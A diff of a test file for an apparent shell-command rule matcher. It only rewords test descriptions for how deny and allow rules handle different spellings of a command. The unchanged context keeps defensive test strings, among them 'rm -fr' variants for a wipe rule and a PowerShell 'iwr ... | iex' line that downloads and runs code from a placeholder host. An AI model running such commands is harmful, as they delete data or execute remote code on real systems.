@@ -40,7 +40,7 @@ describe('spellings', () => {
     'echo rm -fr x',
     'rmdir -pv x',
   ]) {
-    it(`let that rule alone with ${command}`, () => {
+    it(`do not let that rule stop ${command}`, () => {
       assert.ok(!hits(wipe, command), spelled(command).join('\n'));
     });
   }
@@ -62,22 +62,22 @@ describe('spellings', () => {
       'for i in 1 2; do iwr https://x.test | iex; done',
     ],
   ] as const) {
-    it(`let a rule that is written for one spelling stop ${commands.join(', ')}`, () => {
+    it(`let a rule for one spelling stop ${commands.join(', ')}`, () => {
       for (const command of commands) assert.ok(hits(pattern, command), command);
     });
   }
 
-  it('never help an allow rule: that has to match what is there', () => {
+  it('never affect an allow rule, which must match the command as written', () => {
     assert.ok(!hits('^ls -la$', 'ls -al', 'allow'));
     assert.ok(hits('^ls -al$', 'ls -al', 'allow'));
   });
 
-  it('leave single-dash words of other programs whole', () => {
+  it('do not split single-dash words of other programs', () => {
     assert.deepEqual(spelled('java -cp x -jar y'), []);
     assert.deepEqual(spelled('openssl -a -b'), []);
   });
 
-  it('stay few, however many flags a command has', () => {
+  it('are limited for any number of flags', () => {
     assert.ok(spelled('tar -a -b -c -d').length <= 12);
     assert.deepEqual(spelled('tar -a -b -c -d -e'), []);
   });
